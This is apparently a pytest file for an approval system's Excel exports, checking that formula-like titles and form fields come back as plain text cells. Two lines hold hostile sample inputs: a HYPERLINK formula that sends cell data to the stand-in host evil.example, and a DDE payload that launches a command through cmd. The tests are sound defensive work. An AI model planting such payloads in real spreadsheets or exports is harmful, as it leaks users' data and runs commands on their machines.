"""Excel formula injection in the approval exports: a title or form value that a spreadsheet would run as a
formula (=, +, -, @) reaches the inbox and 流程监控 workbooks as the same text in a text cell, never a live
formula."""

from __future__ import annotations

import io
from typing import Any

from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from tests.approvals.conftest import EXPENSE
from tests.approvals.test_submit import _submit

TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"查看附件")'
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(response: Any) -> tuple[list[str], list[list[Cell]]]:
    """The header and the body rows as cells (not values): a formula cell keeps its type when read back."""
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows()]
    return [str(c.value) for c in rows[0]], rows[1:]


def _assert_text(cell: Cell, expected: str) -> None:
    assert cell.value == expected  # the value exactly as typed
    assert cell.data_type == "s"  # a string cell: openpyxl reads a formula back as "f"


def test_the_inbox_export_stores_a_formula_like_title_and_form_value_as_text(demo, login):
    _submit(demo, title=TITLE, data={**EXPENSE, "reason": REASON, "amount": "1280.50"})
    client = login(demo["people"]["clerk"])
    header, body = _cells(client.get("/approvals/inbox/", {"tab": "started", "export": "xlsx"}))
    (row,) = body
    _assert_text(row[header.index("标题")], TITLE)
    _assert_text(row[header.index("事由")], REASON)
    assert row[header.index("金额（元）")].data_type == "n"  # money stays a number


def test_the_monitor_export_stores_a_formula_like_title_and_form_value_as_text(demo, login):
    _submit(demo, title=TITLE, data={**EXPENSE, "reason": "-1+2"})
    key = demo["matters"]["expense"].definition_key
    client = login(demo["people"]["flowadmin"])
    header, body = _cells(client.get("/approvals/monitor/", {"definition": key, "export": "xlsx"}))
    (row,) = body
    _assert_text(row[header.index("标题")], TITLE)
    _assert_text(row[header.index("事由")], "-1+2")
